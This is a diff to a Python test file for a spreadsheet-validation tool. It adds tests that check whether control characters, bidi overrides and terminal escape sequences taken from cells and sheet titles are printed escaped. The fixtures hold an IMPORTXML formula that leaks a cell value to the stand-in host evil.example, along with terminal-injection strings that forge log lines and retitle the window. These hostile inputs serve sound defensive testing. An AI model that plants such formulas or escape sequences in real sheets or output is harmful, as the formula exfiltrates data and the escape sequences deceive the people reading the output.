@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import ssl
 from datetime import date, datetime
 from pathlib import Path
@@ -29,6 +30,8 @@ from pmsheets.schema import FINDINGS_HEADERS, parse
 
 FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
 INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
+# Shown escaped on a terminal: C0 and C1 controls, DEL, and the bidi overrides that reorder what a line seems to say.
+TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
 
 
 def run(*argv: str) -> tuple[int, str, str]:
@@ -82,6 +85,25 @@ def test_xlsx_findings_keep_a_formula_typed_as_an_id_as_text(tmp_path: Path) -> 
 
 
 # --- control characters, paths and markup in what the tool prints --------------------------------
+
+
+def test_table_output_shows_control_characters_from_cells_escaped(tmp_path: Path) -> None:
+    fake_line = "OPS\r\n  Actions!A9  info  all-good"
+    action = action_row(id="ACT-1\x9b2J", incident_id="INC-1\u202e", type="Short-term", tracking_link=fake_line)
+    config = xlsx_project(tmp_path, tables(actions=[action]))
+    _, out, _ = run("--config", config, "validate", "--as-of", AS_OF.isoformat(), "--no-write")
+    assert not TERMINAL_CONTROLS.search(out)
+    assert "'OPS\\r\\n  Actions!A9  info  all-good' is neither a web link" in out
+    assert not [line for line in out.splitlines() if line.startswith("  Actions!A9")]
+
+
+def test_updated_line_shows_control_characters_from_the_sheet_title_escaped(emulator: SheetsEmulator, tmp_path: Path) -> None:
+    key = emulator.create_spreadsheet("Register\x1b]0;pwned\x07\nfake second line", sheets=tables())
+    key_file(emulator, tmp_path)
+    code, out, err = run("--config", google_project(emulator, tmp_path, key), "validate", "--as-of", AS_OF.isoformat())
+    assert code == 0
+    assert not TERMINAL_CONTROLS.search(out)
+    assert "Register\\x1b]0;pwned\\x07\\nfake second line" in out.splitlines()[-1]
 
 
 def test_path_and_markup_in_a_cell_are_only_quoted_text_in_messages(tmp_path: Path) -> None:
